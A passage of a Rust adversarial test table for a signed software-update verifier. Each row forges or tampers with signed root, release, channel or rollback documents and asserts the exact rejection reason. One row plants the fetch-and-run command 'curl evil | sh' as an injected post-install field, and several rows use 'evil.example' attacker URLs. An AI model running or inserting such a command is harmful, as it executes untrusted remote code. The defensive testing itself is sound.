//! Adversarial table: every row builds real documents (fixed-seed ed25519 keys, real
//! signatures), applies one attack, runs a real verification entry point and states the exact
//! outcome: the stable [`Reason`] of a rejection, or the install / idle decision of the rows
//! that must not be rejected.
#![allow(clippy::unwrap_used)]

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::sync::Mutex;

use ed25519_dalek::Signer;
use manifests::{
    follow_root_chain, in_rollout, verify_file, verify_rotation, verify_update, AcceptedStatement,
    Artifact, ArtifactVerifier, ChannelStatement, Decision, DocType, ExpirationEnforcement, Idle,
    Key, LocalState, PrivateKey, Reason, Release, ReleasePointer, Role, Roles, Rollback, Rollout,
    Root, Signature, Signed, Timestamp, UpdateCheck, Version, CONTEXT_PREFIX, PRODUCT,
};
use sha2::{Digest, Sha256};

const PLATFORM: &str = "x86_64-unknown-linux-gnu";
const OTHER_PLATFORM: &str = "aarch64-unknown-linux-gnu";
const NOW: &str = "2026-06-01T12:00:00Z";
const DAY: i64 = 86_400;

// ---------------------------------------------------------------------------------------------
// Fixture
// ---------------------------------------------------------------------------------------------

fn seed(n: u8) -> [u8; 32] {
    let mut seed = [n; 32];
    seed[0] = 0xA5;
    seed
}

fn key(name: &str, n: u8) -> PrivateKey {
    PrivateKey::from_seed(name, &seed(n))
}

/// Every key used by the table, from fixed seeds.
struct Keys {
    root1: PrivateKey,
    root2: PrivateKey,
    root3: PrivateKey,
    release: PrivateKey,
    channel: PrivateKey,
    outsider: PrivateKey,
    new_root1: PrivateKey,
    new_root2: PrivateKey,
    new_root3: PrivateKey,
}

const RELEASE_SEED: u8 = 10;

fn keys() -> Keys {
    Keys {
        root1: key("root-1", 1),
        root2: key("root-2", 2),
        root3: key("root-3", 3),
        release: key("release-1", RELEASE_SEED),
        channel: key("channel-1", 20),
        outsider: key("outsider", 99),
        new_root1: key("root-4", 4),
        new_root2: key("root-5", 5),
        new_root3: key("root-6", 6),
    }
}

fn ts(text: &str) -> Timestamp {
    text.parse().unwrap()
}

fn ver(text: &str) -> Version {
    text.parse().unwrap()
}

fn key_entry(key: &PrivateKey) -> Key {
    let public = key.public();
    Key {
        scheme: public.scheme,
        public: public.public,
        extra: BTreeMap::new(),
    }
}

fn ids(keys: &[&PrivateKey]) -> Vec<String> {
    keys.iter().map(|k| k.keyid()).collect()
}

/// A root of `version` whose root role is `root_keys` with `threshold`, and whose release and
/// channel roles are single keys.
fn root_doc(
    version: u64,
    root_keys: &[&PrivateKey],
    threshold: u32,
    release: &PrivateKey,
    channel: &PrivateKey,
    expires: Timestamp,
) -> Root {
    let mut keys = BTreeMap::new();
    for k in root_keys.iter().copied().chain([release, channel]) {
        keys.insert(k.keyid(), key_entry(k));
    }
    Root {
        doc_type: DocType::Root,
        version,
        expires,
        keys,
        roles: Roles {
            root: Role::new(ids(root_keys), threshold),
            release: Role::new(vec![release.keyid()], 1),
            channel: Role::new(vec![channel.keyid()], 1),
            extra: BTreeMap::new(),
        },
        extra: BTreeMap::new(),
    }
}

/// Not a multiple of the 4 kB chunks the streaming row feeds.
const PAYLOAD_SIZE: usize = 100_000;

/// The bytes of the executable for `platform` (deterministic).
fn payload(platform: &str) -> Vec<u8> {
    let salt = platform.len();
    (0..PAYLOAD_SIZE)
        .map(|i| ((i * 31 + salt) % 251) as u8)
        .collect()
}

/// The signed entry for `platform`'s executable (hashed once per platform).
fn artifact(platform: &str) -> Artifact {
    static DIGESTS: Mutex<BTreeMap<String, String>> = Mutex::new(BTreeMap::new());
    let sha256 = DIGESTS
        .lock()
        .unwrap()
        .entry(platform.to_owned())
        .or_insert_with(|| hex::encode(Sha256::digest(payload(platform))))
        .clone();
    Artifact {
        platform: platform.to_owned(),
        sha256,
        size: PAYLOAD_SIZE as u64,
        url: format!("https://updates.example/worker-agent/1.5.0/{platform}"),
        mirrors: Vec::new(),
        deltas: Vec::new(),
        extra: BTreeMap::new(),
    }
}

/// The whole world of one update check: trusted root, what the server sent, what the agent
/// remembers. Rows change one thing and run the check.
struct Fx {
    k: Keys,
    now: Timestamp,
    root: Root,
    release: Signed<Release>,
    stmt: Signed<ChannelStatement>,
    rollback: Option<Signed<Rollback>>,
    local: LocalState,
    ignore_cohort: bool,
}

impl Fx {
    fn new() -> Self {
        let k = keys();
        let now = ts(NOW);
        let root = root_doc(
            1,
            &[&k.root1, &k.root2, &k.root3],
            2,
            &k.release,
            &k.channel,
            ts("2030-01-01T00:00:00Z"),
        );
        let local = LocalState {
            product: PRODUCT.to_owned(),
            platform: PLATFORM.to_owned(),
            worker_id: "worker-0042".to_owned(),
            channel: "stable".to_owned(),
            current_version: ver("1.4.0"),
            accepted_serial: Some(41),
            accepted_statement_sha256: Some("00".repeat(32)),
            quarantined: BTreeSet::new(),
        };
        let release = Signed::sign(Self::release_body(now), &[&k.release]).unwrap();
        let stmt = Signed::sign(Self::stmt_body(now, &release), &[&k.channel]).unwrap();
        Fx {
            k,
            now,
            root,
            release,
            stmt,
            rollback: None,
            local,
            ignore_cohort: false,
        }
    }

    fn release_body(now: Timestamp) -> Release {
        Release {
            doc_type: DocType::Release,
            product: PRODUCT.to_owned(),
            version: ver("1.5.0"),
            released_at: now.plus_secs(-7 * DAY),
            minimum_version: ver("1.2.0"),
            artifacts: vec![artifact(PLATFORM), artifact(OTHER_PLATFORM)],
            notes: "Fixes the scheduler stall.".to_owned(),
            extra: BTreeMap::new(),
        }
    }

    fn stmt_body(now: Timestamp, release: &Signed<Release>) -> ChannelStatement {
        ChannelStatement {
            doc_type: DocType::Channel,
            channel: "stable".to_owned(),
            serial: 42,
            issued_at: now.plus_secs(-3600),
            expires: now.plus_secs(23 * 3600),
            release: ReleasePointer {
                version: release.signed.version.clone(),
                manifest_sha256: release.signed_sha256().unwrap(),
                extra: BTreeMap::new(),
            },
            rollout: Rollout {
                percent: 100,
                salt: "stable-1.5.0".to_owned(),
                wave: None,
                extra: BTreeMap::new(),
            },
            minimum_version: ver("1.0.0"),
            recommended_version: release.signed.version.clone(),
            halted: false,
            urgent: false,
            extra: BTreeMap::new(),
        }
    }

    /// Replaces the release (signed by the release key) and re-points and re-signs the statement.
    fn with_release(mut self, edit: impl FnOnce(&mut Release)) -> Self {
        let mut body = self.release.signed.clone();
        edit(&mut body);
        self.release = Signed::sign(body, &[&self.k.release]).unwrap();
        let mut stmt = Self::stmt_body(self.now, &self.release);
        stmt.serial = self.stmt.signed.serial;
        stmt.rollout = self.stmt.signed.rollout.clone();
        self.stmt = Signed::sign(stmt, &[&self.k.channel]).unwrap();
        self
    }

    /// Edits the statement and re-signs it with the channel key (a genuine statement).
    fn with_stmt(mut self, edit: impl FnOnce(&mut ChannelStatement)) -> Self {
        let mut body = self.stmt.signed.clone();
        edit(&mut body);
        self.stmt = Signed::sign(body, &[&self.k.channel]).unwrap();
        self
    }

    /// Sets up a downgrade: the agent runs 1.6.0, the channel offers 1.5.0.
    fn downgrade(mut self) -> Self {
        self.local.current_version = ver("1.6.0");
        self
    }

    fn rollback_body(&self) -> Rollback {
        Rollback {
            doc_type: DocType::Rollback,
            product: PRODUCT.to_owned(),
            from: vec![ver("1.6.0")],
            to: ver("1.5.0"),
            issued_at: self.now.plus_secs(-3600),
            expires: self.now.plus_secs(7 * DAY),
            reason: "1.6.0 leaks file descriptors".to_owned(),
            extra: BTreeMap::new(),
        }
    }

    /// Attaches a rollback directive built from the default one, signed by `signer`.
    fn with_rollback(
        mut self,
        edit: impl FnOnce(&mut Rollback),
        signer: fn(&Keys) -> &PrivateKey,
    ) -> Self {
        let mut body = self.rollback_body();
        edit(&mut body);
        self.rollback = Some(Signed::sign(body, &[signer(&self.k)]).unwrap());
        self
    }

    fn decide(&self) -> Outcome {
        UpdateCheck {
            root: &self.root,
            channel: &self.stmt,
            release: &self.release,
            rollback: self.rollback.as_ref(),
            ignore_cohort: self.ignore_cohort,
        }
        .decide(&self.local, self.now)
        .into()
    }

    fn decision(&self) -> Decision {
        UpdateCheck {
            root: &self.root,
            channel: &self.stmt,
            release: &self.release,
            rollback: self.rollback.as_ref(),
            ignore_cohort: self.ignore_cohort,
        }
        .decide(&self.local, self.now)
    }

    /// The trusted root as a signed document (threshold 2 of 3 root keys).
    fn signed_root(&self) -> Signed<Root> {
        Signed::sign(self.root.clone(), &[&self.k.root1, &self.k.root2]).unwrap()
    }

    /// Root version 2: the root role moves to three new keys (2 of 3); release and channel keep
    /// their keys.
    fn next_root_body(&self, version: u64) -> Root {
        let k = &self.k;
        root_doc(
            version,
            &[&k.new_root1, &k.new_root2, &k.new_root3],
            2,
            &k.release,
            &k.channel,
            ts("2031-01-01T00:00:00Z"),
        )
    }

    fn verify_self(&self, doc: &Signed<Root>) -> Outcome {
        doc.verify_self(self.now, ExpirationEnforcement::Safe)
            .into()
    }
}

fn release_key(k: &Keys) -> &PrivateKey {
    &k.release
}

fn channel_key(k: &Keys) -> &PrivateKey {
    &k.channel
}

// ---------------------------------------------------------------------------------------------
// Outcomes
// ---------------------------------------------------------------------------------------------

/// What an entry point did, reduced to what a row asserts.
#[derive(Debug, Clone, PartialEq)]
enum Outcome {
    /// Rejected with this stable reason.
    Reject(Reason),
    /// `Decision::Install` of this version.
    Install { version: String, is_rollback: bool },
    /// `Decision::NothingToDo`.
    Idle(Idle),
    /// A non-decision entry point (verify_self, verify_rotation, verify_file, ...) succeeded.
    Accepted,
}

use Outcome::{Accepted, Install, Reject};

impl From<Decision> for Outcome {
    fn from(decision: Decision) -> Self {
        match decision {
            Decision::Install { plan, .. } => Install {
                version: plan.version.to_string(),
                is_rollback: plan.is_rollback,
            },
            Decision::NothingToDo { why, .. } => Outcome::Idle(why),
            Decision::Reject(error) => Reject(error.reason()),
        }
    }
}

impl<T> From<manifests::Result<T>> for Outcome {
    fn from(result: manifests::Result<T>) -> Self {
        match result {
            Ok(_) => Accepted,
            Err(error) => Reject(error.reason()),
        }
    }
}

impl fmt::Display for Outcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Reject(reason) => write!(f, "reject({reason})"),
            other => write!(f, "{other:?}"),
        }
    }
}

fn install(version: &str) -> Outcome {
    Install {
        version: version.to_owned(),
        is_rollback: false,
    }
}

/// The statement of a decision that must install (the fixture's own, genuine documents).
fn accepted(decision: Decision) -> AcceptedStatement {
    match decision {
        Decision::Install { statement, .. } => statement,
        other => panic!("the genuine fixture must install, got {other:?}"),
    }
}

fn sig_of(key: &PrivateKey, doc: &Signed<impl manifests::Document>) -> Signature {
    doc.signatures
        .iter()
        .find(|s| s.keyid == key.keyid())
        .cloned()
        .unwrap()
}

/// Signs `message` directly with the seed of a table key, bypassing the crate's domain separation.
fn raw_signature(seed_byte: u8, message: &[u8]) -> String {
    let signing = ed25519_dalek::SigningKey::from_bytes(&seed(seed_byte));
    hex::encode(signing.sign(message).to_bytes())
}

fn write_temp(bytes: &[u8]) -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("worker-agent.download");
    std::fs::write(&path, bytes).unwrap();
    (dir, path)
}

// ---------------------------------------------------------------------------------------------
// The table
// ---------------------------------------------------------------------------------------------

struct Case {
    name: &'static str,
    expect: Outcome,
    run: fn() -> Outcome,
}

fn case(name: &'static str, expect: Outcome, run: fn() -> Outcome) -> Case {
    Case { name, expect, run }
}

fn cases() -> Vec<Case> {
    vec![
        // --- baselines: the untouched fixtures are accepted, so every rejection below is the
        // --- attack's doing.
        case(
            "baseline: untouched documents install",
            install("1.5.0"),
            || Fx::new().decide(),
        ),
        case("baseline: trusted root verifies itself", Accepted, || {
            let fx = Fx::new();
            fx.verify_self(&fx.signed_root())
        }),
        case(
            "baseline: rotation signed by old and new root thresholds",
            Accepted,
            || {
                let fx = Fx::new();
                let k = &fx.k;
                let next = Signed::sign(
                    fx.next_root_body(2),
                    &[&k.root1, &k.root3, &k.new_root1, &k.new_root2],
                )
                .unwrap();
                follow_root_chain(&fx.root, &[next], fx.now, ExpirationEnforcement::Safe).into()
            },
        ),
        case(
            "baseline: the planned artifact verifies on disk",
            Accepted,
            || {
                let fx = Fx::new();
                let Decision::Install { plan, .. } = fx.decision() else {
                    panic!("the untouched fixture no longer installs");
                };
                let (_dir, path) = write_temp(&payload(PLATFORM));
                verify_file(&path, &plan.artifact).into()
            },
        ),
        // --- tampering after signing
        case(
            "release notes tampered after signing",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new();
                fx.release.signed.notes = "Also installs a backdoor.".to_owned();
                fx.decide()
            },
        ),
        case(
            "release artifact hash swapped for the attacker's binary after signing",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new();
                fx.release.signed.artifacts[0].sha256 = hex::encode(Sha256::digest(b"evil binary"));
                fx.release.signed.artifacts[0].size = 11;
                fx.decide()
            },
        ),
        case(
            "release minimum_version lowered after signing",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new();
                fx.release.signed.minimum_version = ver("0.0.1");
                fx.decide()
            },
        ),
        case(
            "channel rollout percent raised after signing",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new().with_stmt(|s| s.rollout.percent = 5);
                fx.stmt.signed.rollout.percent = 100;
                fx.decide()
            },
        ),
        case(
            "channel expiry extended after signing",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new();
                fx.stmt.signed.expires = fx.now.plus_secs(365 * DAY);
                fx.decide()
            },
        ),
        case(
            "channel halted flag cleared after signing",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new().with_stmt(|s| s.halted = true);
                fx.stmt.signed.halted = false;
                fx.decide()
            },
        ),
        case(
            "unknown field added to a signed release after signing",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new();
                fx.release.signed.extra.insert(
                    "post_install".to_owned(),
                    serde_json::json!("curl evil | sh"),
                );
                fx.decide()
            },
        ),
        case(
            "signature swapped in from another release signed by the same key",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new();
                let mut other = fx.release.signed.clone();
                other.version = ver("1.5.1");
                let other = Signed::sign(other, &[&fx.k.release]).unwrap();
                fx.release.signed.notes = "attacker-chosen".to_owned();
                fx.release.signatures = other.signatures;
                fx.decide()
            },
        ),
        case(
            "root field tampered after signing",
            Reject(Reason::BadSignature),
            || {
                let fx = Fx::new();
                let mut doc = fx.signed_root();
                doc.signed.roles.release = Role::new(vec![fx.k.outsider.keyid()], 1);
                doc.signed
                    .keys
                    .insert(fx.k.outsider.keyid(), key_entry(&fx.k.outsider));
                fx.verify_self(&doc)
            },
        ),
        // --- who signed
        case(
            "release signed only by a key outside the release role",
            Reject(Reason::Threshold),
            || {
                let mut fx = Fx::new();
                fx.release = Signed::sign(fx.release.signed.clone(), &[&fx.k.outsider]).unwrap();
                fx.decide()
            },
        ),
        case(
            "release signed by the channel key",
            Reject(Reason::Threshold),
            || {
                let mut fx = Fx::new();
                fx.release = Signed::sign(fx.release.signed.clone(), &[&fx.k.channel]).unwrap();
                fx.decide()
            },
        ),
        case(
            "channel statement signed by the release key",
            Reject(Reason::Threshold),
            || {
                let mut fx = Fx::new();
                fx.stmt = Signed::sign(fx.stmt.signed.clone(), &[&fx.k.release]).unwrap();
                fx.decide()
            },
        ),
        case(
            "outsider signature next to the valid one neither helps nor hurts",
            install("1.5.0"),
            || {
                let mut fx = Fx::new();
                fx.release.add_signature(&fx.k.outsider).unwrap();
                fx.decide()
            },
        ),
        case(
            "release without signatures",
            Reject(Reason::Unsigned),
            || {
                let mut fx = Fx::new();
                fx.release.signatures.clear();
                fx.decide()
            },
        ),
        case(
            "channel statement without signatures",
            Reject(Reason::Unsigned),
            || {
                let mut fx = Fx::new();
                fx.stmt.signatures.clear();
                fx.decide()
            },
        ),
        case("root without signatures", Reject(Reason::Unsigned), || {
            let fx = Fx::new();
            let mut doc = fx.signed_root();
            doc.signatures.clear();
            fx.verify_self(&doc)
        }),
        case(
            "root: one signature repeated to fake a 2-of-3 threshold",
            Reject(Reason::DuplicateKeyid),
            || {
                let fx = Fx::new();
                let mut doc = Signed::sign(fx.root.clone(), &[&fx.k.root1]).unwrap();
                let copy = doc.signatures[0].clone();
                doc.signatures.push(copy);
                fx.verify_self(&doc)
            },
        ),
        case(
            "root: threshold 2 met by one key only",
            Reject(Reason::Threshold),
            || {
                let fx = Fx::new();
                fx.verify_self(&Signed::sign(fx.root.clone(), &[&fx.k.root2]).unwrap())
            },
        ),
        case(
            "root: one root key plus an outsider key for a 2-of-3 threshold",
            Reject(Reason::Threshold),
            || {
                let fx = Fx::new();
                fx.verify_self(
                    &Signed::sign(fx.root.clone(), &[&fx.k.root1, &fx.k.outsider]).unwrap(),
                )
            },
        ),
        case(
            "root: one valid signature plus a forged one by another root key",
            Reject(Reason::BadSignature),
            || {
                let fx = Fx::new();
                let mut doc = Signed::sign(fx.root.clone(), &[&fx.k.root1]).unwrap();
                // root2's key id with root1's signature bytes.
                let forged = Signature {
                    keyid: fx.k.root2.keyid(),
                    sig: doc.signatures[0].sig.clone(),
                };
                doc.signatures.push(forged);
                fx.verify_self(&doc)
            },
        ),
        // --- malformed envelopes
        case(
            "signature keyid in upper-case hex",
            Reject(Reason::Malformed),
            || {
                let mut fx = Fx::new();
                fx.release.signatures[0].keyid = fx.release.signatures[0].keyid.to_uppercase();
                fx.decide()
            },
        ),
        case(
            "signature with a non-hex character",
            Reject(Reason::Malformed),
            || {
                let mut fx = Fx::new();
                let mut sig = fx.stmt.signatures[0].sig.clone();
                sig.replace_range(10..11, "g");
                fx.stmt.signatures[0].sig = sig;
                fx.decide()
            },
        ),
        case(
            "signature truncated to 63 bytes",
            Reject(Reason::Malformed),
            || {
                let mut fx = Fx::new();
                fx.release.signatures[0].sig.truncate(126);
                fx.decide()
            },
        ),
        case(
            "keyid that is not 32 bytes of hex",
            Reject(Reason::Malformed),
            || {
                let mut fx = Fx::new();
                fx.release.signatures[0].keyid.push_str("00");
                fx.decide()
            },
        ),
        case(
            "rollout percent above 100 (genuinely signed)",
            Reject(Reason::Malformed),
            || Fx::new().with_stmt(|s| s.rollout.percent = 101).decide(),
        ),
        case(
            "release with a non-hex artifact hash (genuinely signed)",
            Reject(Reason::Malformed),
            || {
                Fx::new()
                    .with_release(|r| r.artifacts[0].sha256 = "zz".repeat(32))
                    .decide()
            },
        ),
        case(
            "release listing one platform twice (genuinely signed)",
            Reject(Reason::Malformed),
            || {
                Fx::new()
                    .with_release(|r| {
                        let mut twin = artifact(PLATFORM);
                        twin.url = "https://evil.example/agent".to_owned();
                        r.artifacts.push(twin);
                    })
                    .decide()
            },
        ),
        case(
            "unknown field in the envelope",
            Reject(Reason::Malformed),
            || {
                let fx = Fx::new();
                let mut value = serde_json::to_value(&fx.release).unwrap();
                value["unsigned_extras"] = serde_json::json!({"url": "https://evil.example"});
                Signed::<Release>::from_slice(&serde_json::to_vec(&value).unwrap()).into()
            },
        ),
        case(
            "signed part repeats a known field",
            Reject(Reason::Malformed),
            || {
                let fx = Fx::new();
                let text = String::from_utf8(serde_json::to_vec(&fx.release).unwrap()).unwrap();
                let text = text.replacen("\"notes\":", "\"notes\":\"decoy\",\"notes\":", 1);
                Signed::<Release>::from_slice(text.as_bytes()).into()
            },
        ),
        case(
            "release document relabelled as a rollback",
            Reject(Reason::WrongType),
            || {
                let fx = Fx::new();
                let mut value = serde_json::to_value(&fx.release).unwrap();
                value["signed"]["type"] = serde_json::json!("rollback");
                Signed::<Release>::from_slice(&serde_json::to_vec(&value).unwrap()).into()
            },
        ),
        case(
            "release body declaring type channel, genuinely signed",
            Reject(Reason::WrongType),
            || {
                Fx::new()
                    .with_release(|r| r.doc_type = DocType::Channel)
                    .decide()
            },
        ),
        // --- root definitions
        case(
            "root key with an unknown scheme",
            Reject(Reason::UnknownScheme),
            || {
                let fx = Fx::new();
                let mut root = fx.root.clone();
                root.keys.get_mut(&fx.k.root3.keyid()).unwrap().scheme =
                    "rsa-pss-sha256".to_owned();
                fx.verify_self(&Signed::sign(root, &[&fx.k.root1, &fx.k.root2]).unwrap())
            },
        ),
        case(
            "root role with threshold 0",
            Reject(Reason::InvalidRoot),
            || {
                let fx = Fx::new();
                let mut root = fx.root.clone();
                root.roles.channel.threshold = 0;
                fx.verify_self(&Signed::sign(root, &[&fx.k.root1, &fx.k.root2]).unwrap())
            },
        ),
        case(
            "root role listing a key id the root does not define",
            Reject(Reason::InvalidRoot),
            || {
                let fx = Fx::new();
                let mut root = fx.root.clone();
                root.roles.release.keyids.push(fx.k.outsider.keyid());
                fx.verify_self(&Signed::sign(root, &[&fx.k.root1, &fx.k.root2]).unwrap())
            },
        ),
        case(
            "root role threshold above its key count",
            Reject(Reason::InvalidRoot),
            || {
                let fx = Fx::new();
                let mut root = fx.root.clone();
                root.roles.root.threshold = 4;
                fx.verify_self(
                    &Signed::sign(root, &[&fx.k.root1, &fx.k.root2, &fx.k.root3]).unwrap(),
                )
            },
        ),
        case(
            "root role listing the same key twice",
            Reject(Reason::InvalidRoot),
            || {
                let fx = Fx::new();
                let mut root = fx.root.clone();
                root.roles.root = Role::new(vec![fx.k.root1.keyid(), fx.k.root1.keyid()], 2);
                fx.verify_self(&Signed::sign(root, &[&fx.k.root1]).unwrap())
            },
        ),
        case(
            "root key filed under another key's id",
            Reject(Reason::Malformed),
            || {
                let fx = Fx::new();
                let mut root = fx.root.clone();
                root.keys
                    .insert(fx.k.root3.keyid(), key_entry(&fx.k.outsider));
                fx.verify_self(&Signed::sign(root, &[&fx.k.root1, &fx.k.root2]).unwrap())
            },
        ),
        case(
            "in-memory root whose release role names an undefined key",
            Reject(Reason::InvalidRoot),
            || {
                let mut fx = Fx::new();
                fx.root.roles.release.keyids = vec![fx.k.outsider.keyid()];
                fx.release = Signed::sign(fx.release.signed.clone(), &[&fx.k.outsider]).unwrap();
                fx.decide()
            },
        ),
        // --- freshness
        case(
            "expired channel statement (freeze attack)",
            Reject(Reason::Expired),
            || {
                Fx::new()
                    .with_stmt(|s| s.expires = ts(NOW).plus_secs(-1))
                    .decide()
            },
        ),
        case(
            "channel statement expiring exactly now",
            Reject(Reason::Expired),
            || Fx::new().with_stmt(|s| s.expires = ts(NOW)).decide(),
        ),
        case("expired root", Reject(Reason::Expired), || {
            let fx = Fx::new();
            let mut root = fx.root.clone();
            root.expires = fx.now.plus_secs(-DAY);
            fx.verify_self(&Signed::sign(root, &[&fx.k.root1, &fx.k.root2]).unwrap())
        }),
        case(
            "root chain ending at an expired root",
            Reject(Reason::Expired),
            || {
                let fx = Fx::new();
                let k = &fx.k;
                let mut next = fx.next_root_body(2);
                next.expires = fx.now.plus_secs(-DAY);
                let next =
                    Signed::sign(next, &[&k.root1, &k.root2, &k.new_root1, &k.new_root2]).unwrap();
                follow_root_chain(&fx.root, &[next], fx.now, ExpirationEnforcement::Safe).into()
            },
        ),
        case(
            "serial bumped past 2^53 after signing (JCS cannot bind it exactly)",
            Reject(Reason::Malformed),
            || {
                let fx = Fx::new();
                let mut forged = fx.stmt.clone();
                forged.signed.serial = (1 << 60) + 100;
                verify_update(&fx.root, &forged, &fx.release, &fx.local, fx.now).into()
            },
        ),
        case(
            "trusted root expired while held in memory",
            Reject(Reason::Expired),
            || {
                let fx = Fx::new();
                let mut root = fx.root.clone();
                root.expires = fx.now.plus_secs(-1);
                verify_update(&root, &fx.stmt, &fx.release, &fx.local, fx.now).into()
            },
        ),
        case(
            "same version with other build metadata is not an upgrade",
            Outcome::Idle(Idle::UpToDate),
            || {
                let fx = Fx::new();
                let mut local = fx.local.clone();
                local.current_version = ver("1.5.0+rebuild.2");
                verify_update(&fx.root, &fx.stmt, &fx.release, &local, fx.now).into()
            },
        ),
        case(
            "replayed older serial after a newer statement was accepted",
            Reject(Reason::ReplayedSerial),
            || {
                let fx = Fx::new();
                let newer = fx.stmt_with(|s| s.serial = 43);
                let mut local = fx.local.clone();
                local.accept(&accepted(verify_update(
                    &fx.root,
                    &newer,
                    &fx.release,
                    &local,
                    fx.now,
                )));
                verify_update(&fx.root, &fx.stmt, &fx.release, &local, fx.now).into()
            },
        ),
        case(
            "same serial, different content",
            Reject(Reason::ReplayedSerial),
            || {
                let fx = Fx::new();
                let mut local = fx.local.clone();
                local.accept(&accepted(fx.decision()));
                let conflicting = fx.stmt_with(|s| s.rollout.percent = 50);
                verify_update(&fx.root, &conflicting, &fx.release, &local, fx.now).into()
            },
        ),
        case(
            "same serial, same content is accepted again",
            install("1.5.0"),
            || {
                let mut fx = Fx::new();
                let statement = accepted(fx.decision());
                fx.local.accept(&statement);
                fx.decide()
            },
        ),
        // --- binding
        case(
            "statement for another channel",
            Reject(Reason::WrongChannel),
            || {
                Fx::new()
                    .with_stmt(|s| s.channel = "canary".to_owned())
                    .decide()
            },
        ),
        case(
            "release is not the one pinned by manifest_sha256",
            Reject(Reason::ManifestMismatch),
            || {
                // A genuine, release-signed build of the same version that the channel does not pin.
                let mut fx = Fx::new();
                let mut other = fx.release.signed.clone();
                other.notes = "debug build".to_owned();
                fx.release = Signed::sign(other, &[&fx.k.release]).unwrap();
                fx.decide()
            },
        ),
        case(
            "pointer version differs from the pinned release's version",
            Reject(Reason::ManifestMismatch),
            || {
                Fx::new()
                    .with_stmt(|s| s.release.version = ver("1.5.1"))
                    .decide()
            },
        ),
        // --- rollback attacks
        case(
            "downgrade without a rollback directive",
            Reject(Reason::Downgrade),
            || Fx::new().downgrade().decide(),
        ),
        case(
            "downgrade with an expired rollback directive",
            Reject(Reason::Expired),
            || {
                Fx::new()
                    .downgrade()
                    .with_rollback(|r| r.expires = ts(NOW).plus_secs(-60), release_key)
                    .decide()
            },
        ),
        case(
            "downgrade with a rollback directive not covering the running version",
            Reject(Reason::Downgrade),
            || {
                Fx::new()
                    .downgrade()
                    .with_rollback(|r| r.from = vec![ver("1.6.1"), ver("1.7.0")], release_key)
                    .decide()
            },
        ),
        case(
            "downgrade with a rollback directive to another version",
            Reject(Reason::Downgrade),
            || {
                Fx::new()
                    .downgrade()
                    .with_rollback(|r| r.to = ver("1.4.0"), release_key)
                    .decide()
            },
        ),
        case(
            "downgrade with a valid rollback directive installs as a rollback",
            Install {
                version: "1.5.0".to_owned(),
                is_rollback: true,
            },
            || {
                Fx::new()
                    .downgrade()
                    .with_rollback(|_| {}, release_key)
                    .decide()
            },
        ),
        case(
            "rollback directive signed by the channel key instead of the release key",
            Reject(Reason::Threshold),
            || {
                Fx::new()
                    .downgrade()
                    .with_rollback(|_| {}, channel_key)
                    .decide()
            },
        ),
        case(
            "rollback directive widened to the running version after signing",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new()
                    .downgrade()
                    .with_rollback(|r| r.from = vec![ver("1.6.1")], release_key);
                if let Some(doc) = fx.rollback.as_mut() {
                    doc.signed.from.push(ver("1.6.0"));
                }
                fx.decide()
            },
        ),
        case(
            "rollback directive for another product",
            Reject(Reason::WrongProduct),
            || {
                Fx::new()
                    .downgrade()
                    .with_rollback(|r| r.product = "other-agent".to_owned(), release_key)
                    .decide()
            },
        ),
        case(
            "downgrade with a release's signature relabelled as a rollback directive",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new().downgrade().with_rollback(|_| {}, release_key);
                let stolen = sig_of(&fx.k.release, &fx.release);
                if let Some(doc) = fx.rollback.as_mut() {
                    doc.signatures = vec![stolen];
                }
                fx.decide()
            },
        ),
        // --- applicability
        case(
            "release without an artifact for this platform",
            Reject(Reason::WrongPlatform),
            || {
                let mut fx = Fx::new();
                fx.local.platform = "riscv64gc-unknown-linux-gnu".to_owned();
                fx.decide()
            },
        ),
        case(
            "release for another product",
            Reject(Reason::WrongProduct),
            || {
                Fx::new()
                    .with_release(|r| r.product = "other-agent".to_owned())
                    .decide()
            },
        ),
        case(
            "running version below the release's minimum_version",
            Reject(Reason::NeedsHop),
            || {
                let mut fx = Fx::new();
                fx.local.current_version = ver("1.1.9");
                fx.decide()
            },
        ),
        // --- root rotation
        case(
            "rotation signed by the new root keys only",
            Reject(Reason::Threshold),
            || {
                let fx = Fx::new();
                let next = Signed::sign(fx.next_root_body(2), &[&fx.k.new_root1, &fx.k.new_root2])
                    .unwrap();
                verify_rotation(&fx.root, &next).into()
            },
        ),
        case(
            "rotation signed by only one of the two old root keys required",
            Reject(Reason::Threshold),
            || {
                let fx = Fx::new();
                let k = &fx.k;
                let next = Signed::sign(
                    fx.next_root_body(2),
                    &[&k.root1, &k.new_root1, &k.new_root2],
                )
                .unwrap();
                verify_rotation(&fx.root, &next).into()
            },
        ),
        case(
            "rotation signed only by old keys, not by the new root's keys",
            Reject(Reason::Threshold),
            || {
                let fx = Fx::new();
                let next = Signed::sign(
                    fx.next_root_body(2),
                    &[&fx.k.root1, &fx.k.root2, &fx.k.root3],
                )
                .unwrap();
                verify_rotation(&fx.root, &next).into()
            },
        ),
        case(
            "rotation skipping a version",
            Reject(Reason::RootVersion),
            || {
                let fx = Fx::new();
                let k = &fx.k;
                let next = Signed::sign(
                    fx.next_root_body(3),
                    &[&k.root1, &k.root2, &k.new_root1, &k.new_root2],
                )
                .unwrap();
                verify_rotation(&fx.root, &next).into()
            },
        ),
        case(
            "rotation replaying the trusted version",
            Reject(Reason::RootVersion),
            || {
                let fx = Fx::new();
                let k = &fx.k;
                let next = Signed::sign(
                    fx.next_root_body(1),
                    &[&k.root1, &k.root2, &k.new_root1, &k.new_root2],
                )
                .unwrap();
                verify_rotation(&fx.root, &next).into()
            },
        ),
        case(
            "rotation to an internally invalid root",
            Reject(Reason::InvalidRoot),
            || {
                let fx = Fx::new();
                let k = &fx.k;
                let mut body = fx.next_root_body(2);
                body.roles.release.keyids.clear();
                let next =
                    Signed::sign(body, &[&k.root1, &k.root2, &k.new_root1, &k.new_root2]).unwrap();
